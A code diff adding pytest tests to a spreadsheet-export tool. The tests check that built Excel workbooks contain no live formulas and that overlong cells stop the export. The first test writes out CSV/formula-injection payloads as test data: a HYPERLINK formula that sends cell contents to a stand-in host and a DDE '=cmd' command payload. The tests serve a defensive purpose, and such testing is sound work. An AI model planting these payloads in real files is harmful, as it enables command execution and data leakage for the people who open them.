@@ -157,3 +157,47 @@ def test_template_never_overwrites_a_workbook(tmp_path: Path,
     err = capsys.readouterr().err
     assert status == 2 and "esiste già" in err and "Traceback" not in err
     assert filled.read_bytes() == before
+
+
+def test_no_workbook_of_a_build_holds_a_formula(tmp_path: Path) -> None:
+    from _xlsx_checks import assert_no_formulas
+
+    data = tmp_path / "dati"
+    m = om.example_map()
+    actors = m.actors.copy()
+    actors.loc[actors.index[0], "name"] = '=HYPERLINK("http://x.example/?q="&A1,"Clicca")'
+    actors.loc[actors.index[1], "notes"] = "=cmd|' /C calc'!A0"
+    m.actors = actors
+    om.save(m, data)
+    (data / "territories.csv").write_text(
+        "slug,name,province_code\nbergamo,=1+1,16\n", encoding="utf-8")
+    out = tmp_path / "out"
+    status = main(["build", str(data), "--baseline", BASELINE, "--as-of", AS_OF,
+                   "--bootstrap", "20", "--out", str(out), "-q"])
+    assert status == 0
+    for workbook in ("mappa_opportunita.xlsx", "evaluation.xlsx"):
+        assert_no_formulas(out / workbook)
+    back = om.load(out / "mappa_opportunita.xlsx")
+    assert back.actors.set_index("id").at["BG-01", "name"].startswith("=HYPERLINK(")
+    assert back.territories.set_index("slug").at["bergamo", "name"] == "=1+1"
+    template = tmp_path / "modello"
+    assert main(["template", str(template), "--territories",
+                 str(data / "territories.csv")]) == 0
+    assert_no_formulas(template / "mappa_opportunita.xlsx")
+
+
+def test_a_cell_too_long_for_excel_stops_the_export_before_writing(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    data = tmp_path / "dati"
+    m = om.example_map()
+    actors = m.actors.copy()
+    actors.loc[actors.index[2], "notes"] = "x" * 40_000
+    m.actors = actors
+    om.save(m, data)  # CSV holds it
+    assert len(om.load(data).actors.set_index("id").at["BG-03", "notes"]) == 40_000
+    status = main(["export", str(data), "--out", str(tmp_path / "mappa.xlsx")])
+    err = capsys.readouterr().err
+    assert status == 1
+    assert "32.767" in err and "notes" in err and "Traceback" not in err
+    assert not (tmp_path / "mappa.xlsx").exists()
+    assert [p.name for p in tmp_path.iterdir()] == ["dati"]
